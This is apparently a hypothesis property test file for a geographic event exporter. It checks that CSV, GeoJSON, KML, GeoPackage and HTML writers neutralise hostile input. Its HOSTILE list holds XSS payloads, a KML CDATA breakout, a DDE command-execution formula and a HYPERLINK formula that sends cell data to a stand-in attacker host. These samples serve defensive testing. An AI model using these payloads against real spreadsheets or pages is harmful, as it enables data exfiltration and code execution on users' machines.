"""Property tests (hypothesis) over the writers: generated hostile records in, safe files out.

Each example is a few event records whose text is markup, formula prefixes, CDATA breakouts,
control characters, lone surrogates, RTL and zero-width marks or very long strings, and whose
numbers and coordinates may be NaN, infinite or out of range. For GeoJSON, CSV, KML, GeoPackage
and the HTML map and report, the properties are:

* the writer returns or raises one :class:`~geo.core.errors.InputError` (no other exception);
  a refusal names an ``event_id`` that really has bad coordinates (or, for GeoJSON, a value
  that is not finite), and leaves no file behind;
* what was written parses (``json`` with NaN/Infinity refused, ``csv``, ``defusedxml``) and holds
  one feature / row / placemark per record: every input row is accounted for;
* no payload markup survives: no live formula cell in a CSV, no ``<`` in any KML text, no
  hostile tag or inline ``on…`` handler in the HTML outside script data;
* reading the CSV and GeoJSON back gives the text that was written (lone surrogates as U+FFFD;
  a CSV cell without the control characters it held).

Runs in well under a minute: ``max_examples`` is set per test and there is no deadline.
"""

from __future__ import annotations

import csv
import json
import math
from html.parser import HTMLParser
from pathlib import Path

import defusedxml.ElementTree as SafeET
import geopandas as gpd
import pandas as pd
import pytest
import shapely
from hypothesis import HealthCheck, event, given, settings
from hypothesis import strategies as st
from test_render_fixtures import _row

from geo.core.errors import InputError
from geo.core.io import safe
from geo.core.records import TEXT_COLUMNS, normalize_events
from geo.core.terminal import CONTROL
from geo.export import read_events, write_events

HOSTILE = (
    "<img src=x onerror=PWN()>",
    "</script><script>PWN()</script>",
    '"><svg onload=PWN()>',
    "]]></description></Placemark><Placemark><name>PWN</name>",
    "<![CDATA[",
    "]]>",
    "<!--",
    '=HYPERLINK("http://evil.example/?"&A2,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "'=1",
    "＝1",
    "\u202eRTL",
    "Бахм\u200bут",
    "soft\u00adhyphen",
    "\x00",
    "\x07\x1b\x0b\x0c",
    "\ud800",
    "\udfff",
    "\ufffe",
    "\u2028\u2029",
    "&amp;&lt;",
    "{{ 7*7 }}",
    "$x^2$",
    "-37.5",
    "\n",
)
LIVE_MARKUP = ("<img src=x", "<script>PWN", "<svg onload", "<name>PWN")

any_char = st.characters(exclude_categories=())  # surrogates included
texts = st.one_of(
    st.none(),
    st.text(any_char, max_size=12),
    st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(any_char, max_size=4)), max_size=4).map(
        "".join
    ),
    st.sampled_from(HOSTILE),
    st.sampled_from(HOSTILE).map(lambda h: "x" * 4000 + h),
)
numbers = st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True))
any_float = st.floats(allow_nan=True, allow_infinity=True)
TEXT_FIELDS = (
    "claimant", "stance", "place_name", "location", "quote", "source_title", "source_url",
    "claimant_kind", "event_type", "resolution_reason", "admin1", "direction",
)  # fmt: skip


@st.composite
def geometries(draw: st.DrawFn, valid: bool) -> shapely.Geometry | None:
    """A point, a box or nothing; with ``valid``, inside lon ±180 / lat ±90, else anywhere
    (NaN, infinities, 500°)."""
    kind = draw(st.sampled_from(["point", "point", "none", "box"]))
    if kind == "none":
        return None
    bad = st.one_of(any_float, st.just(500.0), st.floats(-180, 180))
    lon = draw(st.floats(-180, 179.5) if valid else bad)
    lat = draw(st.floats(-90, 89.5) if valid else bad)
    if kind == "point":
        return shapely.Point(lon, lat)
    return shapely.box(lon, lat, lon + 0.5, lat + 0.5)


@st.composite
def records(draw: st.DrawFn) -> gpd.GeoDataFrame:
    rows = []
    valid = draw(st.integers(0, 3)) > 0  # three frames in four have coordinates in range
    for k in range(draw(st.integers(1, 5))):
        row = _row(f"e{k}", "x", "held", None, draw(geometries(valid)))
        row.update({field: draw(texts) for field in TEXT_FIELDS})
        row["event_id"] = f"e{k}" + (draw(texts) or "")
        row.update(
            confidence=draw(numbers),
            quantity=draw(numbers),
            uncertainty_m=draw(numbers),
            geo_precision=draw(st.one_of(st.none(), st.sampled_from([1, 2, 3]))),
        )
        rows.append(row)
    return gpd.GeoDataFrame(rows, geometry="geometry", crs=4326)


def bad_rows(frame: gpd.GeoDataFrame) -> set[str]:
    """event_ids whose geometry is not finite or out of range."""
    bounds = shapely.bounds(frame.geometry.values)
    out = set()
    for event_id, geom, (x0, y0, x1, y1) in zip(
        frame["event_id"], frame.geometry.values, bounds, strict=True
    ):
        if geom is None:
            continue
        finite = all(math.isfinite(v) for v in (x0, y0, x1, y1))
        if not finite or x0 < -180 or x1 > 180 or y0 < -90 or y1 > 90:
            out.add(event_id)
    return out


def non_finite_rows(frame: gpd.GeoDataFrame) -> set[str]:
    values = frame[["confidence", "quantity"]].to_numpy(dtype=float)
    infinite = ~pd.isna(values) & ~pd.DataFrame(values).map(math.isfinite).to_numpy()
    return set(frame["event_id"][infinite.any(axis=1)])


def refuse_constant(name: str) -> float:
    raise AssertionError(f"{name} in GeoJSON")


def check_refusal(exc: InputError, frame: gpd.GeoDataFrame, path: Path, fmt: str) -> None:
    """A refusal names a row that really is bad, and writes nothing."""
    text = str(exc)
    assert str(path) in text and "\n" not in text
    culprits = bad_rows(frame) | (non_finite_rows(frame) if fmt == "geojson" else set())
    assert culprits, text
    assert any(repr(safe.replace_surrogates(e)) in text or repr(e) in text for e in culprits), text
    assert not path.exists() and [p.name for p in path.parent.iterdir()] == []


def expected_text(frame: gpd.GeoDataFrame, column: str) -> list[str | None]:
    values = normalize_events(frame)[column].tolist()
    return [safe.replace_surrogates(v) if isinstance(v, str) else None for v in values]


def texts_of(frame: gpd.GeoDataFrame, column: str) -> list[str | None]:
    return [v if isinstance(v, str) else None for v in frame[column].tolist()]


def check_csv(path: Path, frame: gpd.GeoDataFrame) -> None:
    with path.open(newline="", encoding="utf-8") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == len(frame) + 1
    live = [
        cell
        for row in rows
        for cell in row
        if cell[:1] and cell[0] in safe.FORMULA_CHARS and safe.neutralise_cell(cell) != cell
    ]
    assert live == []
    back = read_events(path)
    for column in ("claimant", "quote", "place_name", "event_id"):
        # a CSV cell is written without the input's control characters (a NUL, an escape)
        expected = [
            CONTROL.sub("", v) or None if v is not None else None
            for v in expected_text(frame, column)
        ]
        assert texts_of(back, column) == expected, column


def check_geojson(path: Path, frame: gpd.GeoDataFrame) -> None:
    data = json.loads(path.read_text(encoding="utf-8"), parse_constant=refuse_constant)
    assert len(data["features"]) == len(frame)
    back = read_events(path)
    assert texts_of(back, "quote") == expected_text(frame, "quote")


def check_kml(path: Path, frame: gpd.GeoDataFrame) -> None:
    root = SafeET.parse(path).getroot()
    ns = "{http://www.opengis.net/kml/2.2}"
    assert len(list(root.iter(f"{ns}Placemark"))) == len(frame)
    assert list(root.iter(f"{ns}NetworkLink")) == []
    assert [el.text for el in root.iter() if el.text and ("<" in el.text or ">" in el.text)] == []
    assert len(read_events(path)) == len(frame)


def check_gpkg(path: Path, frame: gpd.GeoDataFrame) -> None:
    assert len(read_events(path)) == len(frame)


CHECKS = {"geojson": check_geojson, "csv": check_csv, "kml": check_kml, "gpkg": check_gpkg}


SETTINGS = settings(
    deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)


@pytest.mark.parametrize("fmt", list(CHECKS))
@settings(SETTINGS, max_examples=40)
@given(frame=records())
def test_writers_keep_every_row_and_no_payload(tmp_path_factory, fmt, frame):
    path = tmp_path_factory.mktemp(fmt) / f"events.{fmt}"
    try:
        write_events(frame, path)
    except InputError as exc:
        event("refused with a message")
        check_refusal(exc, frame, path, fmt)
        return
    event("written")
    assert not (bad_rows(frame) or (fmt == "geojson" and non_finite_rows(frame)))
    CHECKS[fmt](path, frame)


class Tags(HTMLParser):
    """Start tags of a page, outside script and style data (as a browser tokenises them)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.handlers: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.handlers += [f"{tag}[{name}]" for name, _ in attrs if name.lower().startswith("on")]


def check_page(page: str) -> None:
    for needle in LIVE_MARKUP:
        assert needle not in page, needle
    parser = Tags()
    parser.feed(page)
    assert parser.handlers == []
    assert "svg" not in parser.tags and "name" not in parser.tags
    page.encode("utf-8")  # no lone surrogate left


@settings(SETTINGS, max_examples=25)
@given(frame=records(), title=texts)
def test_map_and_report_keep_hostile_text_inert(frame, title):
    from geo.render.map import build_map
    from geo.render.report import render_report

    title = title or "t"
    try:
        page = build_map(frame, title=title, tiles=None).get_root().render()
    except InputError as exc:
        event("refused with a message")
        assert "event_id" in str(exc) and "\n" not in str(exc)
        return
    event("written")
    check_page(safe.replace_surrogates(page))
    check_page(render_report(frame, title=title))


def test_text_columns_cover_the_generated_fields():
    """The generator writes hostile text into real schema text columns."""
    assert set(TEXT_FIELDS) <= set(TEXT_COLUMNS)
